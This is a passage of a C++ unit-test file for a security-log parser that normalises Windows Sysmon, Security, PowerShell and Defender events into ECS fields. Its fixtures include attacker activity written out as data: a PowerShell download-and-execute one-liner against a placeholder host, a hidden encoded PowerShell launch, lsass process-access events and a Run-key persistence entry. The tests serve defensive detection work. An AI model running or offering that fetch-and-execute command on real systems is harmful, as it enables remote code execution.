  EXPECT_EQ(F(ev, "winlog.event_data.Image"), "C:\\Windows\\System32\\curl.exe");  // Winlogbeat's own
  EXPECT_EQ(ev.timestamp_ns, T("2023-01-02T03:04:05.123Z"));
}

TEST(Sysmon, DnsQueryWinlogbeat) {
  Event ev = Rec(kSysmon22Winlogbeat);
  EXPECT_EQ(F(ev, "event.dataset"), "sysmon.dns_query");
  EXPECT_EQ(F(ev, "event.category"), "network");
  EXPECT_EQ(F(ev, "dns.question.name"), "www.example.com");
  EXPECT_EQ(F(ev, "dns.response_code"), "NOERROR");
  EXPECT_EQ(F(ev, "dns.answers"), R"(["edge.example.net","93.184.216.34","2606:2800:220:1::1"])");
  EXPECT_EQ(F(ev, "dns.resolved_ip"), R"(["93.184.216.34","2606:2800:220:1::1"])");
  EXPECT_EQ(F(ev, "process.executable"), "C:\\Program Files\\app\\app.exe");
  EXPECT_EQ(F(ev, "event.outcome"), "success");
}

TEST(Sysmon, RegistryValueSetNxlog) {
  Event ev = Rec(kSysmon13Nxlog);
  EXPECT_EQ(F(ev, "event.dataset"), "sysmon.registry_value_set");
  EXPECT_EQ(F(ev, "event.category"), "registry");
  EXPECT_EQ(F(ev, "event.type"), "change");
  EXPECT_EQ(F(ev, "event.code"), "13");
  EXPECT_EQ(F(ev, "registry.path"), "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater");
  EXPECT_EQ(F(ev, "registry.hive"), "HKLM");
  EXPECT_EQ(F(ev, "registry.key"), "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run");
  EXPECT_EQ(F(ev, "registry.value"), "Updater");
  EXPECT_EQ(F(ev, "registry.data.strings"), "C:\\Users\\Public\\u.exe");
  EXPECT_EQ(F(ev, "process.name"), "regedit.exe");
  EXPECT_EQ(F(ev, "process.pid"), "555");
  EXPECT_EQ(F(ev, "host.name"), "ws02.corp.example");
  EXPECT_EQ(F(ev, "winlog.process.pid"), "2040");
  // The EventData is where every form puts it; NXLog's flat keys are not kept beside it (issue 22).
  EXPECT_EQ(F(ev, "winlog.event_data.Image"), "C:\\Windows\\regedit.exe");
  EXPECT_EQ(F(ev, "Image"), "<absent>");
  EXPECT_EQ(F(ev, "AccountName"), "<absent>");
  EXPECT_EQ(F(ev, "EventReceivedTime"), "<absent>");
  EXPECT_EQ(F(ev, "winlog.user.name"), "SYSTEM") << "the account that logged it, under its Winlogbeat name";
  EXPECT_EQ(F(ev, "winlog.task"), "Registry value set - rule RegistryEvent");
  EXPECT_EQ(F(ev, "winlog.event_data.Hostname"), "<absent>");  // NXLog's metadata is not EventData
  EXPECT_EQ(ev.timestamp_ns, T("2023-01-02T03:04:05.999Z"));
}

TEST(Sysmon, OtherEventIdsXml) {
  auto xml = [](int id, const std::string& data) {
    return "<Event><System><Provider Name=\"Microsoft-Windows-Sysmon\"/><EventID>" + std::to_string(id) +
           "</EventID><TimeCreated SystemTime=\"2024-01-01T00:00:00Z\"/><Channel>Microsoft-Windows-Sysmon/Operational</Channel>"
           "<Computer>h1</Computer></System><EventData><Data Name=\"UtcTime\">2024-01-01 00:00:01.000</Data>"
           "<Data Name=\"ProcessGuid\">{p}</Data><Data Name=\"ProcessId\">10</Data><Data Name=\"Image\">C:\\a\\p.exe</Data>" +
           data + "</EventData></Event>";
  };
  Event e7 = Rec(xml(7, "<Data Name=\"ImageLoaded\">C:\\Windows\\System32\\x.dll</Data><Data Name=\"Hashes\">SHA256=AB,MD5=CD</Data>"));
  EXPECT_EQ(F(e7, "event.dataset"), "sysmon.image_load");
  EXPECT_EQ(F(e7, "file.path"), "C:\\Windows\\System32\\x.dll");
  EXPECT_EQ(F(e7, "file.name"), "x.dll");
  EXPECT_EQ(F(e7, "file.hash.sha256"), "AB");
  EXPECT_EQ(F(e7, "process.hash.sha256"), "<absent>");
  Event e8 = Rec(
      "<Event><System><Provider Name=\"Microsoft-Windows-Sysmon\"/><EventID>8</EventID><Channel>Microsoft-Windows-Sysmon/Operational</Channel></System>"
      "<EventData><Data Name=\"SourceProcessGuid\">{s}</Data><Data Name=\"SourceProcessId\">11</Data><Data Name=\"SourceImage\">C:\\s.exe</Data>"
      "<Data Name=\"TargetProcessGuid\">{t}</Data><Data Name=\"TargetProcessId\">22</Data><Data Name=\"TargetImage\">C:\\Windows\\System32\\lsass.exe</Data>"
      "<Data Name=\"NewThreadId\">33</Data></EventData></Event>");
  EXPECT_EQ(F(e8, "event.dataset"), "sysmon.create_remote_thread");
  EXPECT_EQ(F(e8, "process.pid"), "11");
  EXPECT_EQ(F(e8, "process.entity_id"), "{s}");
  EXPECT_EQ(F(e8, "process.target.name"), "lsass.exe");
  EXPECT_EQ(F(e8, "process.target.pid"), "22");
  Event e10 = Rec(
      "<Event><System><Provider Name=\"Microsoft-Windows-Sysmon\"/><EventID>10</EventID><Channel>Microsoft-Windows-Sysmon/Operational</Channel></System>"
      "<EventData><Data Name=\"SourceProcessGUID\">{s}</Data><Data Name=\"SourceProcessId\">11</Data><Data Name=\"SourceThreadId\">12</Data>"
      "<Data Name=\"SourceImage\">C:\\m.exe</Data><Data Name=\"TargetProcessGUID\">{t}</Data><Data Name=\"TargetProcessId\">22</Data>"
      "<Data Name=\"TargetImage\">C:\\Windows\\system32\\lsass.exe</Data><Data Name=\"GrantedAccess\">0x1010</Data></EventData></Event>");
  EXPECT_EQ(F(e10, "event.dataset"), "sysmon.process_access");
  EXPECT_EQ(F(e10, "event.type"), "access");
  EXPECT_EQ(F(e10, "process.entity_id"), "{s}");
  EXPECT_EQ(F(e10, "process.thread.id"), "12");
  EXPECT_EQ(F(e10, "process.target.executable"), "C:\\Windows\\system32\\lsass.exe");
  EXPECT_EQ(F(e10, "process.target.entity_id"), "{t}");
  Event e11 = Rec(xml(11, "<Data Name=\"TargetFilename\">C:\\Users\\u\\a.txt</Data>"));
  EXPECT_EQ(F(e11, "event.dataset"), "sysmon.file_create");
  EXPECT_EQ(F(e11, "event.type"), "creation");
  EXPECT_EQ(F(e11, "file.path"), "C:\\Users\\u\\a.txt");
  EXPECT_EQ(F(e11, "file.directory"), "C:\\Users\\u");
  Event e12 = Rec(xml(12, "<Data Name=\"EventType\">CreateKey</Data><Data Name=\"TargetObject\">HKU\\S-1-5-21\\Software\\Evil</Data>"));
  EXPECT_EQ(F(e12, "event.dataset"), "sysmon.registry_create_delete");
  EXPECT_EQ(F(e12, "event.type"), "creation");
  EXPECT_EQ(F(e12, "registry.hive"), "HKU");
  EXPECT_EQ(F(e12, "registry.key"), "S-1-5-21\\Software\\Evil");
  EXPECT_EQ(F(e12, "registry.value"), "<absent>");
  Event e15 = Rec(xml(15, "<Data Name=\"TargetFilename\">C:\\d\\f.exe:Zone.Identifier</Data><Data Name=\"Hash\">SHA256=EE</Data>"));
  EXPECT_EQ(F(e15, "event.dataset"), "sysmon.file_create_stream_hash");
  EXPECT_EQ(F(e15, "file.path"), "C:\\d\\f.exe:Zone.Identifier");
  EXPECT_EQ(F(e15, "file.hash.sha256"), "EE");
  Event e23 = Rec(xml(23, "<Data Name=\"TargetFilename\">C:\\d\\g.exe</Data><Data Name=\"Hashes\">MD5=AA</Data>"));
  EXPECT_EQ(F(e23, "event.dataset"), "sysmon.file_delete");
  EXPECT_EQ(F(e23, "event.type"), "deletion");
  EXPECT_EQ(F(e23, "file.hash.md5"), "AA");
  Event e25 = Rec(xml(25, "<Data Name=\"Type\">Image is replaced</Data>"));
  EXPECT_EQ(F(e25, "event.dataset"), "sysmon.process_tampering");
  EXPECT_EQ(F(e25, "event.category"), "process");
  EXPECT_EQ(F(e25, "process.name"), "p.exe");
  Event e5 = Rec(xml(5, ""));
  EXPECT_EQ(F(e5, "event.dataset"), "sysmon.process_terminate");
  Event e99 = Rec(xml(99, ""));
  EXPECT_EQ(F(e99, "event.dataset"), "sysmon.other");
  EXPECT_EQ(F(e99, "error.message"), "unknown Sysmon event id 99");
}

TEST(Sysmon, WazuhEventchannelJson) {
  Event ev = Rec(
      R"({"win":{"system":{"providerName":"Microsoft-Windows-Sysmon","eventID":"11","channel":"Microsoft-Windows-Sysmon/Operational",)"
      R"("computer":"DESKTOP-2QKFOBA","systemTime":"2021-04-28T20:11:55.3643213Z","processID":"2204"},)"
      R"("eventdata":{"utcTime":"2021-04-28 20:11:55.352","processGuid":"{g}","processId":"648","image":"C:\\\\Windows\\\\System32\\\\wscript.exe",)"
      R"("targetFilename":"C:\\\\Users\\\\Public\\\\x.vbs","user":"DESKTOP-2QKFOBA\\\\AtomicRedTeamTest"}}})");
  EXPECT_EQ(F(ev, "event.dataset"), "sysmon.file_create");
  // Wazuh escapes the EventData values' '\' (and '"') once more than JSON: undone.
  EXPECT_EQ(F(ev, "process.executable"), "C:\\Windows\\System32\\wscript.exe");
  EXPECT_EQ(F(ev, "process.name"), "wscript.exe");
  EXPECT_EQ(F(ev, "file.name"), "x.vbs");
  EXPECT_EQ(F(ev, "user.name"), "AtomicRedTeamTest");
  EXPECT_EQ(F(ev, "user.domain"), "DESKTOP-2QKFOBA");
  EXPECT_EQ(F(ev, "host.name"), "DESKTOP-2QKFOBA");
  // The EventData under the names Windows gives them (Wazuh lower-cases the first letter).
  EXPECT_EQ(F(ev, "winlog.event_data.TargetFilename"), "C:\\Users\\Public\\x.vbs");
  EXPECT_EQ(F(ev, "winlog.event_data.User"), "DESKTOP-2QKFOBA\\AtomicRedTeamTest");
  EXPECT_EQ(F(ev, "winlog.event_data.ProcessId"), "648");
  EXPECT_EQ(F(ev, "winlog.event_data.targetFilename"), "<absent>");
  EXPECT_EQ(ev.timestamp_ns, T("2021-04-28T20:11:55.352Z"));
}

// ---------------------------------------------------------------- Security

TEST(WindowsSecurity, LogonFailedXml) {
  Event ev = Rec(kSecurity4625Xml);
  EXPECT_EQ(F(ev, "event.dataset"), "auth.windows_security");
  EXPECT_EQ(F(ev, "event.category"), "authentication");
  EXPECT_EQ(F(ev, "event.type"), "start");
  EXPECT_EQ(F(ev, "event.action"), "logon-failed");
  EXPECT_EQ(F(ev, "event.outcome"), "failure");
  EXPECT_EQ(F(ev, "event.code"), "4625");
  EXPECT_EQ(F(ev, "event.provider"), "Microsoft-Windows-Security-Auditing");
  EXPECT_EQ(F(ev, "host.name"), "exchange-1.mydomain.test");
  EXPECT_EQ(F(ev, "user.name"), "testuser");
  EXPECT_EQ(F(ev, "user.domain"), "EXCHANGE-1");
  EXPECT_EQ(F(ev, "user.id"), "<absent>");  // S-1-0-0, the NULL SID
  EXPECT_EQ(F(ev, "source.ip"), "203.0.113.7");
  EXPECT_EQ(F(ev, "source.port"), "51234");
  EXPECT_EQ(F(ev, "source.domain"), "EXCHANGE-1");
  EXPECT_EQ(F(ev, "winlog.logon.type"), "NetworkCleartext");
  EXPECT_EQ(F(ev, "winlog.logon.authentication_package"), "Negotiate");
  EXPECT_EQ(F(ev, "winlog.logon.failure.status"), "0xc000006d");
  EXPECT_EQ(F(ev, "winlog.logon.failure.sub_status"), "0xc0000064");
  EXPECT_EQ(F(ev, "process.pid"), "5280");
  EXPECT_EQ(F(ev, "process.name"), "w3wp.exe");
  EXPECT_EQ(F(ev, "winlog.event_data.LogonProcessName"), "Advapi  ");
  EXPECT_EQ(ev.timestamp_ns, T("2022-04-28T16:09:28.9443547Z"));
}

TEST(WindowsSecurity, LogonWinlogbeat) {
  Event ev = Rec(kSecurity4624Winlogbeat);
  EXPECT_EQ(F(ev, "event.dataset"), "auth.windows_security");
  EXPECT_EQ(F(ev, "event.action"), "logged-in");
  EXPECT_EQ(F(ev, "event.outcome"), "success");
  EXPECT_EQ(F(ev, "event.category"), "authentication");
  EXPECT_EQ(F(ev, "user.name"), "bob");
  EXPECT_EQ(F(ev, "user.domain"), "CORP");
  EXPECT_EQ(F(ev, "user.id"), "S-1-5-21-1-2-3-1104");
  EXPECT_EQ(F(ev, "source.ip"), "198.51.100.20");
  EXPECT_EQ(F(ev, "source.port"), "3389");
  EXPECT_EQ(F(ev, "source.domain"), "LAPTOP7");
  EXPECT_EQ(F(ev, "winlog.logon.type"), "RemoteInteractive");
  EXPECT_EQ(F(ev, "winlog.logon.id"), "0x8dcdc");
  EXPECT_EQ(F(ev, "process.pid"), "1100");
  EXPECT_EQ(F(ev, "process.executable"), "C:\\Windows\\System32\\svchost.exe");
  EXPECT_EQ(F(ev, "host.name"), "DC01.corp.example");
  EXPECT_EQ(ev.timestamp_ns, T("2023-05-06T07:08:09.123Z"));
}

TEST(WindowsSecurity, LogonFailedNxlog) {
  Event ev = Rec(kSecurity4625Nxlog);
  EXPECT_EQ(F(ev, "event.dataset"), "auth.windows_security");
  EXPECT_EQ(F(ev, "event.outcome"), "failure");
  EXPECT_EQ(F(ev, "event.code"), "4625");
  EXPECT_EQ(F(ev, "user.name"), "admin");
  EXPECT_EQ(F(ev, "user.domain"), "SRV01");
  EXPECT_EQ(F(ev, "source.ip"), "192.0.2.44");
  EXPECT_EQ(F(ev, "source.port"), "0");
  EXPECT_EQ(F(ev, "source.domain"), "kali");
  EXPECT_EQ(F(ev, "winlog.logon.type"), "Network");
  EXPECT_EQ(F(ev, "winlog.logon.authentication_package"), "NTLM");
  EXPECT_EQ(F(ev, "process.pid"), "<absent>");
  EXPECT_EQ(F(ev, "process.executable"), "<absent>");
  EXPECT_EQ(F(ev, "host.name"), "srv01.corp.example");
}

TEST(WindowsSecurity, KerberosPreauthFailedAndOthers) {
  Event ev = Rec(kSecurity4771Xml);
  EXPECT_EQ(F(ev, "event.action"), "kerberos-preauth-failed");
  EXPECT_EQ(F(ev, "event.outcome"), "failure");
  EXPECT_EQ(F(ev, "user.name"), "bob");
  EXPECT_EQ(F(ev, "user.id"), "S-1-5-21-1-2-3-1105");
  EXPECT_EQ(F(ev, "source.ip"), "::ffff:172.16.66.1");
  EXPECT_EQ(F(ev, "source.port"), "60390");
  EXPECT_EQ(F(ev, "service.name"), "krbtgt/insecurebank.local");
  EXPECT_EQ(ev.timestamp_ns, T("2019-03-19T19:12:48.151420Z"));  // python-evtx time format

  auto sec = [](int id, const std::string& data, const std::string& kw = "0x8020000000000000") {
    return "<Event><System><Provider Name=\"Microsoft-Windows-Security-Auditing\"/><EventID>" + std::to_string(id) +
           "</EventID><Keywords>" + kw + "</Keywords><Channel>Security</Channel><Computer>dc</Computer></System><EventData>" +
           data + "</EventData></Event>";
  };
  const std::string subject =
      "<Data Name=\"SubjectUserSid\">S-1-5-21-1-500</Data><Data Name=\"SubjectUserName\">admin</Data>"
      "<Data Name=\"SubjectDomainName\">CORP</Data><Data Name=\"SubjectLogonId\">0x1</Data>";
  Event e4634 = Rec(sec(4634, "<Data Name=\"TargetUserName\">bob</Data><Data Name=\"TargetDomainName\">CORP</Data><Data Name=\"LogonType\">3</Data>"));
  EXPECT_EQ(F(e4634, "event.action"), "logged-out");
  EXPECT_EQ(F(e4634, "event.type"), "end");
  EXPECT_EQ(F(e4634, "user.name"), "bob");
  Event e4648 = Rec(sec(4648, subject + "<Data Name=\"TargetUserName\">svc</Data><Data Name=\"TargetDomainName\">CORP</Data>"
                                        "<Data Name=\"TargetServerName\">fs1</Data><Data Name=\"IpAddress\">10.0.0.5</Data><Data Name=\"IpPort\">445</Data>"));
  EXPECT_EQ(F(e4648, "event.action"), "logged-in-explicit");
  EXPECT_EQ(F(e4648, "user.name"), "admin");
  EXPECT_EQ(F(e4648, "user.effective.name"), "svc");
  EXPECT_EQ(F(e4648, "source.ip"), "10.0.0.5");
  Event e4672 = Rec(sec(4672, subject + "<Data Name=\"PrivilegeList\">SeDebugPrivilege</Data>"));
  EXPECT_EQ(F(e4672, "event.action"), "logged-in-special");
  EXPECT_EQ(F(e4672, "event.category"), "iam");
  EXPECT_EQ(F(e4672, "user.name"), "admin");
  EXPECT_EQ(F(e4672, "user.id"), "S-1-5-21-1-500");
  Event e4720 = Rec(sec(4720, subject + "<Data Name=\"TargetUserName\">newbie</Data><Data Name=\"TargetDomainName\">CORP</Data>"
                                        "<Data Name=\"TargetSid\">S-1-5-21-1-1200</Data>"));
  EXPECT_EQ(F(e4720, "event.action"), "added-user-account");
  EXPECT_EQ(F(e4720, "event.category"), "iam");
  EXPECT_EQ(F(e4720, "event.type"), "creation");
  EXPECT_EQ(F(e4720, "user.name"), "admin");
  EXPECT_EQ(F(e4720, "user.target.name"), "newbie");
  EXPECT_EQ(F(e4720, "user.target.id"), "S-1-5-21-1-1200");
  Event e4768 = Rec(sec(4768, "<Data Name=\"TargetUserName\">bob</Data><Data Name=\"TargetDomainName\">CORP.LOCAL</Data>"
                              "<Data Name=\"Status\">0x6</Data><Data Name=\"IpAddress\">::1</Data><Data Name=\"IpPort\">0</Data>",
                        "0x8010000000000000"));
  EXPECT_EQ(F(e4768, "event.action"), "kerberos-authentication-ticket-requested");
  EXPECT_EQ(F(e4768, "event.outcome"), "failure");
  EXPECT_EQ(F(e4768, "winlog.logon.failure.status"), "0x6");
  Event e4776 = Rec(sec(4776, "<Data Name=\"PackageName\">MICROSOFT_AUTHENTICATION_PACKAGE_V1_0</Data>"
                              "<Data Name=\"TargetUserName\">dadmin</Data><Data Name=\"Workstation\">WIN81</Data><Data Name=\"Status\">0x0</Data>"));
  EXPECT_EQ(F(e4776, "event.action"), "credential-validated");
  EXPECT_EQ(F(e4776, "event.outcome"), "success");
  EXPECT_EQ(F(e4776, "source.domain"), "WIN81");
  EXPECT_EQ(F(e4776, "winlog.logon.authentication_package"), "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0");
  Event nx = Rec(R"({"EventID":4624,"Channel":"security","Keywords":-9214364837600034816,"TargetUserName":"u"})");
  EXPECT_EQ(F(nx, "event.outcome"), "success");  // 0x8020000000000000 as NXLog's signed integer
  Event nx2 = Rec(R"({"EventID":4624,"Channel":"Security","EventType":"AUDIT_FAILURE","TargetUserName":"u"})");
  EXPECT_EQ(F(nx2, "event.outcome"), "failure");
  Event noid = Rec("<Event><System><Channel>Security</Channel></System><EventData><Data Name=\"SubjectUserName\">x</Data></EventData></Event>");
  EXPECT_EQ(F(noid, "event.dataset"), "auth.windows_security");
  EXPECT_EQ(F(noid, "error.message"), "Windows event without EventID");
  Event e9999 = Rec(sec(9999, subject));
  EXPECT_EQ(F(e9999, "event.dataset"), "auth.windows_security");
  EXPECT_EQ(F(e9999, "event.action"), "security-event-9999");
  EXPECT_EQ(F(e9999, "event.category"), "host");
}

// ---------------------------------------------------------------- PowerShell

TEST(PowerShell, ScriptBlockXml) {
  Event ev = Rec(kPowerShell4104Xml);
  EXPECT_EQ(F(ev, "event.dataset"), "powershell.script_block_logging");
  EXPECT_EQ(F(ev, "event.category"), "process");
  EXPECT_EQ(F(ev, "event.type"), "info");
  EXPECT_EQ(F(ev, "event.action"), "script_block_logging");
  EXPECT_EQ(F(ev, "event.outcome"), "success");
  EXPECT_EQ(F(ev, "event.code"), "4104");
  EXPECT_EQ(F(ev, "powershell.file.script_block_text"),
            "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1') | Out-Null; if (1 -lt 2) { \"a&b\" }");
  EXPECT_EQ(F(ev, "powershell.file.script_block_id"), "0f7d3b2a-1111-2222-3333-444455556666");
  EXPECT_EQ(F(ev, "powershell.sequence"), "1");
  EXPECT_EQ(F(ev, "powershell.total"), "1");
  EXPECT_EQ(F(ev, "file.path"), "C:\\Users\\eve\\a.ps1");
  EXPECT_EQ(F(ev, "file.name"), "a.ps1");
  EXPECT_EQ(F(ev, "user.id"), "S-1-5-21-9-9-9-1001");
  EXPECT_EQ(F(ev, "host.name"), "ws03");
  EXPECT_EQ(F(ev, "log.level"), "verbose");
  EXPECT_EQ(ev.timestamp_ns, T("2021-03-04T05:06:07.1234567Z"));
}

TEST(PowerShell, ModuleLoggingWinlogbeat) {
  Event ev = Rec(kPowerShell4103Winlogbeat);
  EXPECT_EQ(F(ev, "event.dataset"), "powershell.module_logging");
  EXPECT_EQ(F(ev, "event.action"), "module_logging");
  EXPECT_EQ(F(ev, "powershell.command.name"), "Get-Process");
  EXPECT_EQ(F(ev, "powershell.command.type"), "Cmdlet");
  EXPECT_EQ(F(ev, "process.command_line"), "powershell.exe -nop -w hidden -c Get-Process");
  EXPECT_EQ(F(ev, "powershell.engine.version"), "5.1.19041.1");
  EXPECT_EQ(F(ev, "powershell.pipeline_id"), "10");
  EXPECT_EQ(F(ev, "powershell.runspace_id"), "7a8b");
  EXPECT_EQ(F(ev, "powershell.sequence"), "16");
  EXPECT_EQ(F(ev, "powershell.id"), "Microsoft.PowerShell");
  EXPECT_EQ(F(ev, "user.name"), "eve");
  EXPECT_EQ(F(ev, "user.domain"), "CORP");
  EXPECT_EQ(F(ev, "file.path"), "<absent>");
  EXPECT_EQ(F(ev, "powershell.command.invocation_details"), "CommandInvocation(Get-Process): \"Get-Process\"\r\n");
}

TEST(PowerShell, ClassicEngineStartNxlog) {
  Event ev = Rec(
      R"({"Hostname":"ws04","EventID":400,"SourceName":"PowerShell","Channel":"Windows PowerShell",)"
      R"("Message":"Engine state is changed from None to Available.","Data":"Available",)"
      R"("param3":"\tNewEngineState=Available\r\n\tHostName=ConsoleHost\r\n\tHostApplication=powershell.exe -enc SQBFAFgA\r\n\tEngineVersion=5.1\r\n"})");
  EXPECT_EQ(F(ev, "event.dataset"), "powershell.classic");
  EXPECT_EQ(F(ev, "process.command_line"), "powershell.exe -enc SQBFAFgA");
  EXPECT_EQ(F(ev, "powershell.engine.version"), "5.1");
}

// ---------------------------------------------------------------- Defender

TEST(Defender, ActionTakenXml) {
  Event ev = Rec(kDefender1117Xml);
  EXPECT_EQ(F(ev, "event.dataset"), "antivirus.windows_defender");
  EXPECT_EQ(F(ev, "event.kind"), "alert");
  EXPECT_EQ(F(ev, "event.category"), "malware");
  EXPECT_EQ(F(ev, "event.type"), "info");
  EXPECT_EQ(F(ev, "event.action"), "quarantined");
  EXPECT_EQ(F(ev, "event.outcome"), "success");
  EXPECT_EQ(F(ev, "rule.name"), "Trojan:PowerShell/Powersploit.M");
  EXPECT_EQ(F(ev, "rule.id"), "2147725349");
  EXPECT_EQ(F(ev, "rule.category"), "Trojan");
  EXPECT_EQ(F(ev, "file.path"), "C:\\AtomicRedTeam\\T1056\\Get-Keystrokes.ps1");
  EXPECT_EQ(F(ev, "file.name"), "Get-Keystrokes.ps1");
  EXPECT_EQ(F(ev, "process.name"), "powershell.exe");
  EXPECT_EQ(F(ev, "user.name"), "IEUser");
  EXPECT_EQ(F(ev, "user.domain"), "MSEDGEWIN10");
  EXPECT_EQ(F(ev, "host.name"), "MSEDGEWIN10");
  EXPECT_EQ(F(ev, "event.reference"), "https://go.microsoft.com/fwlink/?linkid=37020&name=Trojan:PowerShell/Powersploit.M");
  EXPECT_EQ(F(ev, "windows_defender.action"), "quarantined");
  EXPECT_EQ(F(ev, "observer.version"), "4.18.1906.3");
  EXPECT_EQ(ev.timestamp_ns, T("2019-07-18T20:40:16.800525Z"));
}

TEST(Defender, DetectionNxlogAndRealtimeDisabledWinlogbeat) {
  Event d = Rec(kDefender1116Nxlog);
  EXPECT_EQ(F(d, "event.dataset"), "antivirus.windows_defender");
  EXPECT_EQ(F(d, "event.action"), "detected");
  EXPECT_EQ(F(d, "event.outcome"), "success");
  EXPECT_EQ(F(d, "event.type"), "info");
  EXPECT_EQ(F(d, "rule.name"), "Virus:DOS/EICAR_Test_File");
  EXPECT_EQ(F(d, "file.path"), "C:\\Users\\x\\Downloads\\eicar.com");
  EXPECT_EQ(F(d, "process.name"), "<absent>");
  EXPECT_EQ(F(d, "host.name"), "ws10");
  Event c = Rec(kDefender5001Winlogbeat);
  EXPECT_EQ(F(c, "event.dataset"), "antivirus.windows_defender");
  EXPECT_EQ(F(c, "event.kind"), "event");
  EXPECT_EQ(F(c, "event.category"), "configuration");
  EXPECT_EQ(F(c, "event.type"), "change");
  EXPECT_EQ(F(c, "event.action"), "realtime_protection_disabled");
  EXPECT_EQ(F(c, "event.outcome"), "success");
  EXPECT_EQ(F(c, "host.name"), "ws09");
}

// ---------------------------------------------------------------- corpus

corpus::CorpusFormat Format(const std::string& name) {
  corpus::CorpusFormat f;
  f.name = name;
  return f;
}


//! A peer's expected JSON document flattened: scalars as text, arrays of scalars as lists.
struct Expected {
  std::map<std::string, std::vector<std::string>> fields;
  bool Has(const std::string& k) const { return fields.count(k) != 0; }
  std::string One(const std::string& k) const {
    auto it = fields.find(k);
    return it == fields.end() || it->second.empty() ? "" : it->second.front();
  }
};

void FlattenJson(simdjson::dom::element el, const std::string& prefix, Expected* out) {
  using T = simdjson::dom::element_type;
  switch (el.type()) {
    case T::OBJECT: {
      simdjson::dom::object obj;
      if (el.get(obj)) return;
      for (simdjson::dom::key_value_pair kv : obj) {
        const std::string key(kv.key);
        FlattenJson(kv.value, prefix.empty() ? key : prefix + "." + key, out);
      }
      break;
    }
    case T::ARRAY: {
      simdjson::dom::array arr;
      if (el.get(arr)) return;
      for (simdjson::dom::element v : arr) {
        std::string_view sv;
        if (v.type() == T::STRING && !v.get(sv)) out->fields[prefix].emplace_back(sv);
        else if (v.type() != T::OBJECT && v.type() != T::ARRAY) out->fields[prefix].push_back(simdjson::to_string(v));
      }
      break;
    }
    case T::STRING: {
      std::string_view sv;
      if (!el.get(sv)) out->fields[prefix].emplace_back(sv);
      break;
    }
    case T::NULL_VALUE:
      break;
    default:
      out->fields[prefix].push_back(simdjson::to_string(el));
  }
}

std::vector<Expected> ReadExpected(const std::string& path) {
  std::vector<Expected> out;
  simdjson::dom::parser parser;
  simdjson::padded_string json(corpus::ReadAll(path));
  simdjson::dom::element root;
  simdjson::dom::array arr;
  if (parser.parse(json).get(root) || root.get(arr)) return out;
  for (simdjson::dom::element el : arr) {
    Expected e;
    FlattenJson(el, "", &e);
    out.push_back(std::move(e));
  }
  return out;
}

//! Compares `ours` with the expected value where the peer has the field. For list-valued
//! ECS fields (event.category, event.type) ours agrees when it is one of the listed values.
void ExpectField(corpus::CorpusFormat* f, const Event& ev, const Expected& x, const std::string& name) {
  auto it = x.fields.find(name);
  if (it == x.fields.end() || it->second.empty()) return;
  std::string want = it->second.front();
  if (it->second.size() > 1) {
    std::string got = corpus::Field(ev, name);
    want = std::find(it->second.begin(), it->second.end(), got) != it->second.end() ? got : it->second.front();
  }
  f->Expect(ev, name, want);
}

TEST(WindowsCorpus, AllFormats) {
  if (corpus::Path("sysmon").empty()) GTEST_SKIP() << "corpus absent";
  RegisterOnce();
  std::vector<corpus::CorpusFormat> formats;

  // --- Sysmon event XML (EVTX renderings + Wazuh engine tests with expected ECS).
  {
    corpus::CorpusFormat f = Format("sysmon/windows-sysmon-xml");
    const std::string dir = corpus::Path("sysmon/windows-sysmon-xml");
    for (const auto& entry : std::filesystem::recursive_directory_iterator(dir)) {
      const std::string p = entry.path().string();
      if (entry.path().extension() != ".xml") continue;
      std::vector<Expected> expected;
      if (p.size() > 10 && p.substr(p.size() - 10) == "_input.xml") expected = ReadExpected(p.substr(0, p.size() - 10) + "_expected.json");
      const auto records = corpus::SplitEvents(corpus::ReadAll(p));
      for (size_t k = 0; k < records.size(); ++k) {
        Event ev = corpus::Parse(records[k]);
        f.Classify(ev, "sysmon.");
        if (k >= expected.size()) continue;
        const Expected& x = expected[k];
        for (const char* name : {"event.code", "event.provider", "event.category", "host.name", "file.path",
                                 "file.name", "file.directory", "process.executable", "process.name", "process.pid",
                                 "process.entity_id", "user.name", "user.domain"}) {
          ExpectField(&f, ev, x, name);
        }
        f.Differs("process.hash.*", "Sysmon 23 Hashes are the deleted file's: we map them to file.hash.*");
        f.Differs("process.parent.name", "Wazuh copies process.name there although EID 2/23 have no parent");
        f.Differs("user.id", "Wazuh takes the System Security UserID (the Sysmon service, S-1-5-18) as user.id; we keep it as winlog.user.identifier");
        f.Differs("rule.name", "Sysmon's RuleName '-' (no rule) is not set");
        f.Differs("@timestamp/event.start", "we take UtcTime (Sysmon's event time); Wazuh puts SystemTime in event.start");
      }
    }
    formats.push_back(f);
  }

  // --- Sysmon for Linux: syslog lines carrying one-line event XML, Wazuh expected ECS.
  {
    corpus::CorpusFormat f = Format("sysmon/sysmon-linux-syslog-xml");
    const std::string dir = corpus::Path("sysmon/sysmon-linux-syslog-xml");
    for (const auto& entry : std::filesystem::directory_iterator(dir)) {
      const std::string p = entry.path().string();
      if (p.size() < 10 || p.substr(p.size() - 10) != "_input.txt") continue;
      const auto expected = ReadExpected(p.substr(0, p.size() - 10) + "_expected.json");
      const auto lines = corpus::Lines(p);
      for (size_t k = 0; k < lines.size(); ++k) {
        Event ev = corpus::Parse(lines[k]);
        f.Classify(ev, "sysmon.");
        if (k >= expected.size()) continue;
        const Expected& x = expected[k];
        for (const char* name :
             {"event.code", "event.provider", "event.category", "event.outcome", "host.name", "process.executable",
              "process.name", "process.pid", "process.entity_id", "process.command_line", "process.working_directory",
              "process.parent.executable", "process.parent.name", "process.parent.pid", "process.parent.entity_id",
              "process.parent.command_line", "source.ip", "source.port", "destination.ip", "destination.port",
              "network.transport", "network.direction", "file.path", "file.name", "user.name", "dns.question.name"}) {
          if (std::string(name) == "event.outcome" && (x.One("event.code") == "4" || x.One("event.code") == "9" || x.One("event.code") == "16")) continue;
          ExpectField(&f, ev, x, name);
        }
        f.Differs("event.action", "we name actions after the dataset (process_create); Wazuh uses its own (process_creation)");
        f.Differs("event.outcome (EID 4, 9, 16)", "Sysmon reports what happened: success; Wazuh says unknown for these");
      }
    }
    formats.push_back(f);
  }

  // --- Sysmon + Security from NXLog JSON (OTRF): classification by channel.
  {
    corpus::CorpusFormat f = Format("sysmon/windows-sysmon-nxlog-json");
    simdjson::dom::parser json;
    int others = 0;
